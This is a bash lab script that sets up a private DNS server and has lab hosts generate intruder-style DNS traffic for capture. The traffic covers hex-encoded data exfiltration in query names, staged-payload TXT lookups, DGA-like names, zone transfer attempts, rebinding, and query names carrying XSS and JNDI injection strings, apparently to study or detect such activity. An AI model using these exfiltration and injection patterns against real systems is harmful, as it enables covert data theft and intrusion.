#!/usr/bin/env bash
. "$(dirname "$0")/../lib/lab.sh"
. "$lib/servers.sh"

# Names and queries that intruders' tools make; all answers come from a server of our own.
bridge
host dns 203.0.113.53/24
host ann 10.20.0.11/24
host ben 10.20.0.12/24
cat >"$lab/agency.zone" <<ZONE
\$TTL 300
@ IN SOA ns.lab.example. hostmaster.lab.example. 1 3600 600 86400 60
@ IN NS ns.lab.example.
$(for n in $(seq 40); do echo "server$n IN A 10.30.0.$n"; done)
ZONE
named_on dns 203.0.113.53 "zone \"agency.example\" { type primary; file \"$lab/agency.zone\"; };" <<ZONE
*.stage.123456.example. IN TXT "$(head -c 240 /dev/zero | tr '\0' A)"
*.exfil.test. IN A 198.51.100.66
*.exfil.test. IN TXT "b2sgZ28gb24="
home.dyndns.test. IN A 198.51.100.77
evil.duckdns.test. IN A 198.51.100.78
mining-pool.test. IN A 198.51.100.79
rebind.test. IN A 127.0.0.1
rebind.test. IN A 10.20.0.1
telegram-api.test. IN A 198.51.100.80
interact.oast.test. IN A 198.51.100.81
ZONE
capture
ask() { local from=$1; shift; on "$from" dig +tries=1 +timeout=2 @203.0.113.53 "$@" >/dev/null || true; }
for word in aaa baa caa post; do ask ann "$word.stage.123456.example" TXT; done
for n in $(seq 12); do # data carried out in names: hexadecimal, 60 characters a label, three labels
  label() { python3 -c 'import random,sys; print(random.Random(int(sys.argv[1])).randbytes(30).hex())' "$n$1"; }
  ask ann "$(label 1).$(label 2).$(label 3).$n.exfil.test" A
  ask ann "$(label 4).$n.exfil.test" TXT
done
for name in qxkvzjwpfhtm xkqjvzbwrt9f plmoknijbuhv zxcvqwrtpsdf mnbvlkjhgfpo wqzxkvjyhtgb jfkdlsapqozn vbnmxzlkjqwe; do
  ask ann "$name.test" A; ask ann "$name.invalid" A
done
for name in labonly4wqqyqhjn.onion home.dyndns.test evil.duckdns.test mining-pool.test rebind.test telegram-api.test \
  c8u1.interact.oast.test wpad.agency.example isatap.agency.example; do ask ben "$name" A; done
ask ben agency.example ANY
ask ben x.exfil.test NULL
ask ben agency.example AXFR
ask ben agency.example IXFR=0
ask ben +notcp +bufsize=512 agency.example ANY
ask ben +zflag agency.example A
ask ben -t TYPE65535 agency.example
ask ben -c HS agency.example TXT
ask ben -x 169.254.169.254
ask ben +noedns +norecurse CH TXT hostname.bind
ask ben 'x\000y\255.exfil.test' A
ask ben "<script>alert(1)</script>.exfil.test" A
ask ben '${jndi:ldap://evil}.exfil.test' A
finish dig named
